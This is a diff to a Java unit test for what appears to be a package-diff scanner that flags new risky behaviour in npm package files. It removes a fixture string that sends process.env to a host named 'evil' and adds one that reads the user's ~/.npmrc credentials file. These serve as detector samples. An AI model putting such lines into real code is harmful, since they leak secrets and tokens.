@@ -101,7 +101,8 @@ class ContentAnalysisTest {
   @Test
   void onlyFindingsTheFilesPreviousContentDidNotHaveAreKept() {
     String old = "https.request({host: 'telemetry'}).end();\n";
-    String now = "// moved down\n" + old + "https.request({host: 'evil'}).end(process.env);\n";
+    String now = "// moved down\n" + old.replace("telemetry", "telemetry-v2")
+        + "require('fs').readFileSync(home + '/.npmrc');\n";
     Unpacked before = unpack(Map.of("package.json", manifest("", ""), "lib/send.js", old));
     Unpacked after = unpack(Map.of("package.json", manifest("", ""), "lib/send.js", now));
 
@@ -111,8 +112,9 @@ class ContentAnalysisTest {
     ChangedFile send = file(facts, "lib/send.js");
     assertThat(send.change()).isEqualTo(Change.CHANGED);
     assertThat(send.previousSize()).isEqualTo(old.length());
+    // It made a network call before (an edited one is not new); reading .npmrc is.
     assertThat(send.findings()).singleElement().satisfies(f -> {
-      assertThat(f.excerpt()).isEqualTo("https.request({host: 'evil'})");
+      assertThat(f.kind()).isEqualTo(CodeFinding.Kind.SECRET_READ);
       assertThat(f.line()).isEqualTo(3);
     });
   }
